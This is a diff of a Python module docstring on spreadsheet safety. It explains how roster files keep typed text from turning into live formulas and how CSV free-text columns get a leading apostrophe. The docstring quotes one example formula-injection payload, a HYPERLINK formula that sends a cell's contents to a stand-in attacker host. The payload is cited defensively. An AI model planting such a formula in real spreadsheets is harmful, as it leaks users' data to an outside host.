@@ -1,11 +1,12 @@
 """Spreadsheet safety: text stays text, sheet titles are valid and never read as formulas.
 
 A name or site typed as ``=HYPERLINK("http://evil.example/?x="&A1,..)`` must never become a
-live formula in a file a coordinator opens. roster.xlsx writes every text cell as an inline
-string (:mod:`matcher.io.xlsx_tables`), so the cell shows what was typed; sheets that openpyxl
-adds later (Schedule, Short hours) are kept text by :func:`keep_text_as_text`. CSV files have
-no cell types, so their free-text columns (a site, a region) get the usual guard instead: a
-leading apostrophe before ``= + - @``, tab or CR (:func:`csv_safe_text`).
+live formula in a file a coordinator opens. roster.xlsx writes every text cell with
+xlsxwriter's ``write_string`` (:mod:`matcher.io.xlsx_writer`), so the cell shows what was
+typed; sheets that openpyxl adds later (Schedule, Short hours) are kept text by
+:func:`keep_text_as_text`. CSV files have no cell types, so their free-text columns (a site, a
+region) get the usual guard instead: a leading apostrophe before ``= + - @``, tab or CR
+(:func:`csv_safe_text`).
 """
 
 from __future__ import annotations
